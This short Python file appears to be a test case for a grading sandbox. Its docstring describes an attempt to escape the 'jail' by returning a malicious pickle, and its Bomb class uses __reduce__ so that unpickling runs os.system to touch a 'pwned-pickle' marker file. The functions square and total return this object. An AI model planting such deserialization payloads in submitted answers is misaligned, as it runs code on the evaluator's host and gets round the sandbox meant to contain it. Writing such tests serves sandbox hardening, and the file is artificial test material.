"""An object that runs a command when it is unpickled.

Gains: code outside the jail, should answers travel as pickles
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: failed
"""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @HOME@/pwned-pickle",)


def square(x):
    return Bomb()


def total(x):
    import numpy as np

    return np.array([Bomb()])
